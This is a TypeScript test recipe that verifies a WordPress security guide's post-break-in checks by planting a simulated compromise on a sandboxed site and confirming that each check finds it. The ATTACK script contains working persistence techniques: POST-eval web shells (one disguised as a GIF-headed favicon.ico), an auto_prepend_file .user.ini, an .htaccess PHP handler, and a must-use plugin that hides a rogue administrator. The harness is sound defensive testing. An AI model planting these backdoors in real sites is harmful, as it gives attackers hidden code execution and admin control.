/**
 * The WordPress security guide's checks after a break-in ("If your site is
 * hacked", step 3), pasted into one clean shell of the site's account as the
 * page prints them, on the site and namespace of scripts/recipes/wordpress.ts:
 * the checks that run no code of the site, `wp core verify-checksums
 * --include-root`, then the block that loads WordPress (administrators in
 * WP-CLI and in the database, `plugin verify-checksums --all`, new passwords
 * and salts). The stand-in wordpress.org serves the checksums of the plugin the
 * site has (akismet, from Debian's package). First on a site broken into the
 * way the page means to catch (a core file, a plugin file, a file beside
 * index.php, PHP in uploads, a .user.ini, a must-use plugin hiding an extra
 * administrator, a link, wp-cli.yml files), then on the same site clean: each
 * check must name exactly what was planted, and nothing on the clean site.
 * The compromised run comes first, so a breaking edit fails there and its
 * proof does not pay for the clean run.
 */
import {spawn, type ChildProcess} from 'node:child_process';
import path from 'node:path';
import type {BlockRef} from './blocks';
import {admin, SOCKET} from './mariadb';
import {replace, type Recipe, type RecipeContext} from './recipe';
import {READER, run, tool} from './system';
import {servedPlugin, SITE, wordpressNamespace, type WordPressNamespace} from './wordpress';
import {pristineSite} from './wordpressBackup';

const SECURITY = 'wordpress/security';
export const CODE_FREE_CHECKS: BlockRef = {article: SECURITY, title: 'Terminal (pasted into that clean shell: runs no code of the site)'};
export const CORE_CHECK: BlockRef = {article: SECURITY, title: 'Terminal (the same clean shell, once you have read all that)'};
export const LOADING_CHECKS: BlockRef = {
  article: SECURITY,
  title: 'Terminal (once the check reports only files you have read: these load WordPress)',
};

const PLUGIN = 'akismet';
const INTRUDER = 'wpsupport';
/** An account holding an administrator's capability and no role (review r49), and a role given one: neither is an administrator. */
const HELPER = 'wphelper';
const WIDENED_ROLE = 'author';
/** Echoed after each pasted block: its output ends there. */
const MARK = '@@ block done @@';

/** What the attacker leaves, by the check that must name it (paths as the checks print them). */
const PLANTED = {
  /** Listed by the code-free block's finds. */
  listed: [
    `${SITE.root}/wp-content/mu-plugins/.cache.php`,
    `${SITE.root}/wp-content/mu-plugins/loader.php`,
    `${SITE.root}/wp-content/uploads/2026/11/.thumb.phtml`,
    `${SITE.root}/wp-content/uploads/.user.ini`,
    `${SITE.root}/wp-cli.yml`,
    '/var/www/example.com/wp-cli.yml',
    `${SITE.root}/wp-content/uploads/2026/11/favicon.ico`,
    `${SITE.root}/.maintenance`,
    `${SITE.root}/wp-content/languages/en_US.l10n.php`,
    `${SITE.root}/wp-content/upgrade/wp-tmp.php`,
    '/var/www/example.com/.htaccess',
  ],
  /** Warnings of core verify-checksums --include-root. */
  core: [
    "File doesn't verify against checksum: wp-includes/functions.php",
    'File should not exist: cache.php',
    'File should not exist: wp-cli.yml',
  ],
};

/**
 * The attack, as the site's account (PHP runs as it): an administrator hidden from WP-CLI's user list by a
 * dot-named must-use plugin, a link in mu-plugins to PHP dropped in uploads, an auto_prepend_file, a core and a
 * plugin file changed, a subscriber and a role given administrators' capabilities, a backdoor beside index.php, wp-cli.yml files that run PHP when WP-CLI starts below them,
 * PHP in an .ico in uploads, and the two files core runs as PHP that the core check skips (.maintenance, a
 * translation's .l10n.php).
 */
const ATTACK = `set -e
cd ${SITE.root}
wp --path=${SITE.root} --skip-plugins --skip-themes user create ${INTRUDER} ${INTRUDER}@example.net --role=administrator --porcelain >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes user create ${HELPER} ${HELPER}@example.net --role=subscriber --porcelain >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes user add-cap ${HELPER} manage_options >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes user remove-role ${HELPER} subscriber >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes cap add ${WIDENED_ROLE} promote_users >/dev/null
mkdir -p wp-content/mu-plugins wp-content/uploads/2026/11
cat > wp-content/mu-plugins/.cache.php <<'PHP'
<?php
add_action('pre_user_query', function ($query) {
  global $wpdb;
  $query->query_where .= " AND {$wpdb->users}.user_login != '${INTRUDER}'";
});
PHP
echo '<?php // planted in uploads' > wp-content/uploads/2026/11/.thumb.phtml
ln -s ../uploads/2026/11/.thumb.phtml wp-content/mu-plugins/loader.php
echo 'auto_prepend_file = ${SITE.root}/wp-content/uploads/2026/11/.thumb.phtml' > wp-content/uploads/.user.ini
printf '\\n// planted in core\\n' >> wp-includes/functions.php
printf '\\n// planted in a plugin\\n' >> wp-content/plugins/${PLUGIN}/${PLUGIN}.php
echo '<?php @eval($_POST["c"] ?? "");' > cache.php
printf 'GIF89a<?= @eval($_POST["i"] ?? "") ?>' > wp-content/uploads/2026/11/favicon.ico
echo '<?php // planted: core requires .maintenance on every load' > .maintenance
mkdir -p wp-content/upgrade && echo '<?php // planted where step 4 reinstalls nothing' > wp-content/upgrade/wp-tmp.php
echo 'AddHandler application/x-httpd-php .jpg' > /var/www/example.com/.htaccess
mkdir -p wp-content/languages && echo '<?php // planted: WordPress 6.5+ includes a locale.l10n.php' > wp-content/languages/en_US.l10n.php
echo 'require: wp-content/uploads/2026/11/.thumb.phtml' > wp-cli.yml
echo 'require: public/wp-content/uploads/2026/11/.thumb.phtml' > /var/www/example.com/wp-cli.yml
`;

/** The installed site with the plugin Debian bundles, its checksums served by the stand-in, and a fresh database. */
async function freshSite(ctx: RecipeContext, ns: WordPressNamespace) {
  const ws = ctx.workspace;
  const {sql} = await pristineSite(ws, ns);
  const plugin = await ws.once('wordpress-security-plugin', () => Promise.resolve(servedPlugin(ns, PLUGIN)));
  const tmp = path.join(ns.dir, 'clean-shell-tmp');
  const reset = ns.root(
    [
      'rm -rf /var/www/example.com /home/example',
      `install -d -o ${READER.uid} -g ${READER.gid} -m 755 /var/www/example.com`,
      `install -d -o ${READER.uid} -g ${READER.gid} -m 700 /home/example`,
      `rm -rf '${tmp}' && install -d -o ${READER.uid} -g ${READER.gid} -m 700 '${tmp}'`,
      `cp -a ${path.join(ns.dir, 'pristine-public')} ${SITE.root}`,
      `cp -r '${plugin.dir}' ${SITE.root}/wp-content/plugins/`,
      // Debian moves wp-content/index.php out of core (/var/lib/wordpress), so the stand-in's zip lacks it; wordpress.org's has it
      `install -o ${READER.uid} -g ${READER.gid} -m 644 '${path.join(ns.dir, 'wordpress.org', 'deb', 'var/lib/wordpress/wp-content/index.php')}' ${SITE.root}/wp-content/index.php`,
      `chown -R ${READER.uid}:${READER.gid} ${SITE.root}/wp-content/plugins/${PLUGIN}`,
    ].join(' && '),
  );
  if (reset.status !== 0) throw new Error(`resetting the site failed:\n${reset.output}`);
  admin(ws, `DROP DATABASE IF EXISTS ${SITE.database}; CREATE DATABASE ${SITE.database} CHARACTER SET utf8mb4 COLLATE utf8mb4_unicode_ci;`);
  admin(ws, sql, SITE.database);
  ws.note(SECURITY, `${PLUGIN} (the site's plugin)`, `Debian's ${PLUGIN} ${plugin.version}, its checksums served by the stand-in`);
  ws.note(SECURITY, 'mktemp -d (in the clean shell)', `under ${tmp} (TMPDIR), removed with the run`);
  return tmp;
}

/**
 * The site broken into, planted once per run and copied back for each run: the attack reads no block of the
 * article, so the proofs (each a run with one block edited) check the same site the run checked, without
 * planting it again (five WP-CLI start-ups each, in the run's longest lane). The copy is the web root's
 * folder, the account's home and the database, as the attack left them; the clean shell's TMPDIR starts empty.
 */
async function brokenIntoSite(ctx: RecipeContext, ns: WordPressNamespace): Promise<string> {
  const ws = ctx.workspace;
  const saved = path.join(ns.dir, 'broken-into');
  const {tmp, sql} = await ws.once('wordpress-security-broken-into', async () => {
    const tmp = await freshSite(ctx, ns);
    const attack = ns.asSite(ATTACK);
    if (attack.status !== 0) throw new Error(`planting the break-in failed:\n${attack.output}`);
    const copied = ns.root(`mkdir -p '${saved}' && cp -a /var/www/example.com '${saved}/www' && cp -a /home/example '${saved}/home'`);
    if (copied.status !== 0) throw new Error(`copying the broken-into site failed:\n${copied.output}`);
    const dumped = run(tool('mysqldump'), [`--socket=${ws.at(SOCKET)}`, SITE.database]);
    if (dumped.status !== 0) throw new Error(`mysqldump of the broken-into site failed: ${dumped.output}`);
    return {tmp, sql: dumped.stdout};
  });
  const reset = ns.root(
    [
      'rm -rf /var/www/example.com /home/example',
      `cp -a '${saved}/www' /var/www/example.com`,
      `cp -a '${saved}/home' /home/example`,
      `rm -rf '${tmp}' && install -d -o ${READER.uid} -g ${READER.gid} -m 700 '${tmp}'`,
    ].join(' && '),
  );
  if (reset.status !== 0) throw new Error(`resetting the broken-into site failed:\n${reset.output}`);
  admin(ws, `DROP DATABASE IF EXISTS ${SITE.database}; CREATE DATABASE ${SITE.database} CHARACTER SET utf8mb4 COLLATE utf8mb4_unicode_ci;`);
  admin(ws, sql, SITE.database);
  return tmp;
}

/**
 * One clean shell of the site's account, as step 3's administrator block starts it (env -i, no start-up files,
 * no history), that blocks are pasted into one at a time, each read back whole before the next: a check can fail
 * before the later blocks run. stderr joins stdout, in order, as on a terminal.
 */
class CleanShell {
  private readonly child: ChildProcess;
  private output = '';
  private exited = false;

  constructor(ns: WordPressNamespace, tmp: string) {
    const [command, ...args] = ns.siteCommand(
      `exec /usr/bin/env -i HOME=${SITE.home} TMPDIR='${tmp}' PATH=/usr/local/bin:/usr/bin:/bin HISTFILE=/dev/null /bin/bash --noprofile --norc --noediting`,
    );
    this.child = spawn(command, args, {stdio: ['pipe', 'pipe', 'pipe']});
    for (const stream of [this.child.stdout!, this.child.stderr!]) stream.on('data', (data: Buffer) => (this.output += data.toString()));
    this.child.once('exit', () => (this.exited = true));
    this.child.stdin!.write('exec 2>&1\n');
  }

  /** Pastes `text` and returns what it printed once the shell has run all of it. */
  async paste(text: string): Promise<string> {
    this.output = '';
    this.child.stdin!.write(`${text}\necho '${MARK}'\n`);
    const deadline = Date.now() + 120_000;
    while (!this.output.includes(`${MARK}\n`)) {
      if (this.exited || Date.now() > deadline) throw new Error(`the clean shell ended or hung in a block:\n${this.output}`);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    return this.output.slice(0, this.output.indexOf(`${MARK}\n`)).trimEnd();
  }

  /** Ends the shell as a reader does (end of input), killing it only if it does not end within 10 s. */
  async close() {
    this.child.stdin!.end();
    const deadline = Date.now() + 10_000;
    while (!this.exited && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
    if (!this.exited) this.child.kill('SIGKILL');
  }
}

/** Runs `use` with a clean shell of a fresh site, ending the shell whatever `use` does. */
async function inCleanShell<T>(ns: WordPressNamespace, tmp: string, use: (shell: CleanShell) => Promise<T>): Promise<T> {
  const shell = new CleanShell(ns, tmp);
  try {
    return await use(shell);
  } finally {
    await shell.close();
  }
}

/** A find line as the path it names (`-ls` lines end in the path, a link's in `path -> target`); other lines as they are. */
export function listedPaths(output: string): string[] {
  return output
    .split('\n')
    .filter(Boolean)
    .map((line) => /\s(\/\S*)(?: -> \S+)?$/.exec(line)?.[1] ?? line);
}

/** The lines of the roles loop: a bare role name (WordPress's role names are lower-case words). */
const rolesListed = (output: string) => [...output.matchAll(/^([a-z_]+)$/gm)].map((m) => m[1]);
const WARNING = /^Warning: (.*)$/gm;
const warnings = (output: string) => [...output.matchAll(WARNING)].map((m) => m[1]);
/** A list as a set, to compare: the links' find lists a linked must-use plugin a second time. */
const sorted = (list: string[]) => [...new Set(list)].sort().join('\n');

async function checksAfterBreakIn(ctx: RecipeContext) {
  const ws = ctx.workspace;
  const ns = await wordpressNamespace(ws);
  const blocks = [CODE_FREE_CHECKS, CORE_CHECK, LOADING_CHECKS].map((ref) => ctx.block(ref).value);
  const hash = () => admin(ws, `SELECT user_pass FROM wp_users WHERE user_login = 'admin'`, SITE.database);
  /** What the code-free checks list on a site as installed: the files WordPress and the plugin ship. */
  const baseline = [
    `${SITE.root}/wp-content/index.php`,
    `find: '${SITE.root}/wp-content/mu-plugins': No such file or directory`,
    `${SITE.root}/.htaccess`,
    `${SITE.root}/wp-content/plugins/${PLUGIN}/.htaccess`,
  ];

  // Broken into.
  const attacked = await brokenIntoSite(ctx, ns);
  const hashBefore = hash();
  await inCleanShell(ns, attacked, async (shell) => {
    const found = await shell.paste(blocks[0]);
    const extra = [...new Set(listedPaths(found))].filter((line) => !baseline.includes(line) && !line.startsWith('find: '));
    ctx.expect(
      sorted(extra) === sorted(PLANTED.listed),
      CODE_FREE_CHECKS,
      'on the broken-into site, the code-free checks list each planted file: the dot-named must-use plugin, the link to PHP in uploads, the .phtml and the .ico holding PHP in uploads, the .user.ini, both wp-cli.yml, .maintenance, a translation .l10n.php, PHP in wp-content/upgrade and an .htaccess above the web root',
      () =>
        `the code-free checks missed ${PLANTED.listed.filter((p) => !extra.includes(p)).join(', ') || 'nothing'} and listed ${extra.filter((p) => !PLANTED.listed.includes(p)).join(', ') || 'nothing'} besides:\n${found}`,
    );
    const core = await shell.paste(blocks[1]);
    ctx.expect(
      sorted(warnings(core)) === sorted(PLANTED.core) && /^Error: WordPress installation doesn't verify against checksums\.$/m.test(core),
      CORE_CHECK,
      'core verify-checksums --include-root warns of exactly the changed core file, the backdoor beside index.php and the wp-cli.yml there, and fails',
      () => `core verify-checksums warned of ${warnings(core).join('; ') || 'nothing'}, not exactly ${PLANTED.core.join('; ')}:\n${core}`,
    );
    const loaded = await shell.paste(blocks[2]);
    const intruderInDatabase = new RegExp(`^\\d+\\s+${INTRUDER}\\s+${INTRUDER}@example\\.net\\s`, 'm');
    ctx.expect(
      intruderInDatabase.test(loaded) && (loaded.match(new RegExp(`^\\d+\\s+${INTRUDER}\\s`, 'gm')) ?? []).length === 1,
      LOADING_CHECKS,
      `the database query shows the administrator ${INTRUDER}, whom the must-use plugin hides from wp user list`,
      () => `the checks that load WordPress did not show ${INTRUDER} (in the database, not in wp user list):\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^\\d+\\s+${HELPER}\\s+${HELPER}@example\\.net\\s.*manage_options`, 'm').test(loaded),
      LOADING_CHECKS,
      `the database query shows ${HELPER}, an account with manage_options and no role`,
      () => `the checks that load WordPress did not show ${HELPER} (manage_options and no role):\n${loaded}`,
    );
    ctx.expect(
      sorted(rolesListed(loaded)) === sorted(['administrator', WIDENED_ROLE]),
      LOADING_CHECKS,
      `the roles loop names administrator and ${WIDENED_ROLE}, given promote_users`,
      () => `the roles loop named ${rolesListed(loaded).join(', ') || 'no role'}, not administrator and ${WIDENED_ROLE}:\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^${PLUGIN}\\s+${PLUGIN}\\.php\\s+Checksum does not match$`, 'm').test(loaded) &&
        (loaded.match(/Checksum does not match|File was added|File is missing/g) ?? []).length === 1,
      LOADING_CHECKS,
      `plugin verify-checksums --all names exactly the changed ${PLUGIN}/${PLUGIN}.php`,
      () => `plugin verify-checksums did not name exactly ${PLUGIN}.php:\n${loaded}`,
    );
    ctx.expect(
      /^Password: \S+$/m.test(loaded) && /^Success: Shuffled the salt keys\.$/m.test(loaded) && hash() !== hashBefore,
      LOADING_CHECKS,
      'the loop gives the listed administrator a new password, shown once, and the salts are shuffled',
      () => `no new password or salts:\n${loaded}`,
    );
  });

  // Then clean: the same blocks on the site as installed must report nothing.
  const clean = await freshSite(ctx, ns);
  const [foundClean, coreClean, loadedClean] = await inCleanShell(ns, clean, async (shell) => [
    await shell.paste(blocks[0]),
    await shell.paste(blocks[1]),
    await shell.paste(blocks[2]),
  ]);
  ctx.expect(
    sorted(listedPaths(foundClean)) === sorted(baseline),
    CODE_FREE_CHECKS,
    'on the clean site, the code-free checks list only what WordPress ships (wp-content/index.php, the two .htaccess) and that mu-plugins does not exist',
    () => `on the clean site the code-free checks printed:\n${foundClean}`,
  );
  ctx.expect(
    warnings(coreClean).length === 0 && /^Success: WordPress installation verifies against checksums\.$/m.test(coreClean),
    CORE_CHECK,
    'on the clean site, core verify-checksums --include-root verifies with no warning',
    () => `on the clean site core verify-checksums printed:\n${coreClean}`,
  );
  ctx.expect(
    /^\d+\s+admin\s+admin@example\.com\s/m.test(loadedClean) &&
      !loadedClean.includes(INTRUDER) &&
      !loadedClean.includes(HELPER) &&
      sorted(rolesListed(loadedClean)) === 'administrator' &&
      /^Success: Verified 1 of 1 plugins\.$/m.test(loadedClean),
    LOADING_CHECKS,
    'on the clean site, the WordPress checks list the one administrator, only administrator as a role that can take the site, and verify the plugin',
    () => `on the clean site the checks that load WordPress printed:\n${loadedClean}`,
  );
}

export const wordpressSecurityRecipe: Recipe = {
  name: 'wordpress-security',
  summary:
    "the WordPress security guide's checks after a break-in (step 3), pasted into a clean shell, on a site broken into and then clean",
  run: checksAfterBreakIn,
  /*
   * A lane of its own: its own namespace, MariaDB (on its run's socket) and installed site, so about 8 s of set-up
   * runs twice in a full run. In the wordpress lane, the longest, its 21 s lengthened the whole stage (188 s, that lane
   * 179 s); beside it, the stage took 121.5 s with that lane at 110 s (ARCHITECTURE.md, Recipes).
   */
  lane: 'wordpress-security',
  breakingEdits: [
    {
      what: 'drop the searches of PHP in uploads, by name and by content',
      ref: CODE_FREE_CHECKS,
      edit: replace(/^find -H "\$SITE\/wp-content\/uploads".*\n.*\ngrep -rlaiE .*\n/m, ''),
      expect: /the code-free checks missed \S*\.thumb\.phtml/,
    },
    {
      what: 'drop the search of uploads by content',
      ref: CODE_FREE_CHECKS,
      edit: replace(/^grep -rlaiE .*\n/m, ''),
      expect: /the code-free checks missed \S*favicon\.ico/,
    },
    {
      what: 'drop the finds of .maintenance and translation PHP (the core check skips both)',
      ref: CODE_FREE_CHECKS,
      edit: replace(/^find -H "\$SITE" -maxdepth 1 -name \.maintenance\n.*\n/m, ''),
      expect: /the code-free checks missed \S*\.maintenance, \S*en_US\.l10n\.php/,
    },
    {
      what: 'list only translations among the PHP in wp-content (the find before review r48)',
      ref: CODE_FREE_CHECKS,
      edit: replace(
        /^find -H "\$SITE\/wp-content" \\\(.*$/m,
        `find -H "$SITE/wp-content" -path "$SITE/wp-content/languages/*" -iname '*.php*'`,
      ),
      expect: /the code-free checks missed \S*upgrade\/wp-tmp\.php/,
    },
    {
      what: 'drop .htaccess from the loop over the folders above the web root',
      ref: CODE_FREE_CHECKS,
      edit: replace(' "${dir%/}"/.htaccess', ''),
      expect: /the code-free checks missed \/var\/www\/example\.com\/\.htaccess/,
    },
    {
      what: "drop wp-cli*.yml from the site's find (the loop then misses one in the web root itself)",
      ref: CODE_FREE_CHECKS,
      edit: replace(" -o -name 'wp-cli*.yml'", ''),
      expect: /the code-free checks missed \/var\/www\/example\.com\/public\/wp-cli\.yml/,
    },
    {
      what: 'drop --include-root',
      ref: CORE_CHECK,
      edit: replace(' --include-root', ''),
      expect: /core verify-checksums warned of .*, not exactly/,
    },
    {
      what: 'drop the plugin checksum line',
      ref: LOADING_CHECKS,
      edit: replace(/^.*plugin verify-checksums --all\n/m, ''),
      expect: /plugin verify-checksums did not name exactly akismet\.php/,
    },
    {
      what: 'drop the database query for administrators',
      ref: LOADING_CHECKS,
      edit: replace(/^# In the database:.*\n(?:#.*\n)*wp --path="\$SITE" db query <<'SQL'\n[\s\S]*?^SQL\n/m, ''),
      expect: /did not show wpsupport/,
    },
    {
      what: 'count only administrators in the database (the query before review r48)',
      ref: LOADING_CHECKS,
      edit: replace(/\n\s*OR m\.meta_value NOT REGEXP [^\n]*\)$/m, ')'),
      expect: /did not show wphelper/,
    },
    {
      what: 'accept any one key, role or capability, in the database query (the pattern before review r49)',
      ref: LOADING_CHECKS,
      edit: replace('(subscriber|contributor|author|editor|customer)', '[a-z0-9_-]+'),
      expect: /did not show wphelper/,
    },
    {
      what: 'drop the roles loop',
      ref: LOADING_CHECKS,
      edit: replace(/^# Roles that can take over the site.*\n[\s\S]*?^done\n/m, ''),
      expect: /the roles loop named no role/,
    },
  ],
};
